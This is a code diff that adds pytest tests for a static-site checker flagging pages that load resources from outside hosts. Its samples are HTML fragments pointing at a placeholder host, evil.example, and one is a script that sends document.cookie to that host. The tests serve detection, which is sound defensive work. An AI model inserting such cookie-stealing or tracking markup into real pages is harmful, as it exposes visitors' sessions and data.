@@ -224,3 +224,40 @@ def test_the_browser_sees_the_build_at_its_real_address_with_its_content_types(t
                               inspect=inspect, interact=False)
     assert visit.inspection == "rgb(1, 2, 3)", "the stylesheet was served (with text/css) and applied"
     assert visit.third_party == [] and len(visit.requests) == 3, visit.summary()
+
+
+@pytest.mark.parametrize("markup", [
+    '<svg><image href="https://evil.example/a.png"/></svg>',
+    '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
+    '<svg><use href="https://evil.example/sprite.svg#i"/></svg>',
+    '<svg><filter><feImage href="https://evil.example/f.png"/></filter></svg>',
+    '<img src="/local.png" srcset="/local-2x.png 2x, https://evil.example/3x.png 3x" alt="">',
+    '<video poster="https://evil.example/poster.jpg"></video>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<p style="background: url(https://evil.example/bg.png)">x</p>',
+    '<style>@import "https://evil.example/font.css";</style>',
+    '<link rel="preload" href="https://evil.example/x.js" as="script">',
+    '<link rel="prefetch" href="https://evil.example/next.html">',
+    '<link rel="modulepreload" href="https://evil.example/m.js">',
+    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
+    '<a href="/" ping="https://evil.example/track">x</a>',
+    "<script>fetch('https://evil.example/?' + document.cookie)</script>",
+    '<iframe srcdoc="&lt;img src=&quot;https://evil.example/i.png&quot;&gt;"></iframe>',
+])
+def test_the_hosts_gate_reads_every_way_a_page_loads_from_another_host(tmp_path, markup):
+    for name in ("index.html", "autre/page/index.html"):
+        page = tmp_path / name
+        page.parent.mkdir(parents=True, exist_ok=True)
+        page.write_text(f"<!DOCTYPE html><html lang=fr><head><title>x</title></head><body>{markup if 'autre' in name else ''}"
+                        "</body></html>", encoding="utf-8")
+    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
+    assert [p.file for p in problems] == ["autre/page/index.html"] and "evil.example" in str(problems[0])
+
+
+def test_the_hosts_gate_reads_standalone_svg_files(tmp_path):
+    (tmp_path / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/>'
+                                       "</svg>", encoding="utf-8")
+    problems = browsergate.static_third_party(Site(tmp_path, "https://blog.example.org"))
+    assert [p.file for p in problems] == ["logo.svg"]
